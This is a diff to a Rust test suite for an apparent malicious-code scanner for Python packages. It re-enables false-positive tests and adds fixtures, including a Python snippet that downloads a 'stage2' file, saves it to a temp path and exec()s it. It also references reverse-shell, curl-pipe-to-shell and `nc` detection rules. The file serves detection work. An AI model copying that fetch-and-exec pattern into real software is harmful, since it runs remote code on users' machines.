@@ -322,7 +322,6 @@ def download_dataset(url, target):
 }
 
 #[test]
-#[ignore = "the local-file exemption of exec-dynamic covers any path: exec(open('/tmp/x.py').read()) of a file urlretrieve just wrote gives no finding at all"]
 fn exec_of_a_file_just_downloaded_is_download_exec() {
     let r = module(
         r#"import urllib.request
@@ -332,6 +331,27 @@ def update():
 "#,
     );
     assert_eq!(hits(&r, "payload/download-exec", MOD), [(4, Critical)]);
+}
+
+#[test]
+fn exec_of_fetched_bytes_saved_to_a_file_is_download_exec() {
+    let r = module(
+        r#"import os, requests, tempfile
+def update():
+    path = os.path.join(tempfile.gettempdir(), "acme_stage2.py")
+    with open(path, "wb") as f:
+        f.write(requests.get("https://example.com/stage2").content)
+    exec(open(path).read())
+"#,
+    );
+    assert_eq!(hits(&r, "payload/download-exec", MOD), [(6, Critical)]);
+}
+
+#[test]
+fn exec_of_a_file_outside_the_project_is_not_a_version_read() {
+    let r = module("import os\ndef load_plugin():\n    exec(open('/tmp/acme_plugin.py').read())\n    exec(open(os.path.expanduser('~/.acme/rc.py')).read())\n");
+    assert_eq!(hits(&r, "payload/exec-dynamic", MOD), [(3, Low), (4, Low)]);
+    none(&r, "payload/download-exec");
 }
 
 // ---------------------------------------------------------------- payload/exec-hidden
@@ -373,7 +393,6 @@ def calc(expr):
 }
 
 #[test]
-#[ignore = "getattr(builtins, type_name)(value) resolves to the callee `__builtins__.?`, which payload::run treats as exec: critical exec-hidden at line 3"]
 fn calling_a_builtin_looked_up_by_a_plain_variable_is_not_exec_hidden() {
     let r = module("import builtins\ndef convert(type_name, value):\n    return getattr(builtins, type_name)(value)\n");
     none(&r, "payload/exec-hidden");
@@ -446,7 +465,6 @@ def daemonize():
 }
 
 #[test]
-#[ignore = "reverse_shell only needs os.dup2 and a shell anywhere in the file: a daemon that redirects to /dev/null plus an unrelated bash runner is a critical reverse shell at line 7"]
 fn dup2_to_devnull_and_an_unrelated_shell_script_runner_are_not_a_reverse_shell() {
     let r = module(
         r#"import os, subprocess
@@ -492,14 +510,12 @@ def have_curl():
 }
 
 #[test]
-#[ignore = "`curl ` or `wget ` plus `http` is enough: curl -o data.json https://… (downloads, runs nothing) is a critical shell-download at line 3"]
 fn curl_saving_a_data_file_is_not_shell_download() {
     let r = module("import subprocess\ndef fetch():\n    subprocess.check_call(['curl', '-sSL', '-o', 'data.json', 'https://example.com/data.json'])\n");
     none(&r, "payload/shell-download");
 }
 
 #[test]
-#[ignore = "the `| sh` test is a substring test: `tar cf - acme | sha256sum` is a critical shell-download at line 3"]
 fn piping_to_sha256sum_is_not_piping_to_sh() {
     let r = module("import subprocess\ndef digest():\n    return subprocess.run('tar cf - acme | sha256sum', shell=True)\n");
     none(&r, "payload/shell-download");
@@ -539,7 +555,6 @@ setup(cmdclass={"install": PostInstall})
 }
 
 #[test]
-#[ignore = "SUSPICIOUS_COMMAND holds `nc `, a substring of `sync `: git submodule sync --recursive in setup.py is high, not low"]
 fn git_submodule_sync_in_setup_py_is_a_build_step() {
     let r = setup_py("import subprocess\nsubprocess.check_call(['git', 'submodule', 'sync', '--recursive'])\n");
     assert_eq!(hits(&r, "access/process-on-install", SETUP), [(2, Low)]);
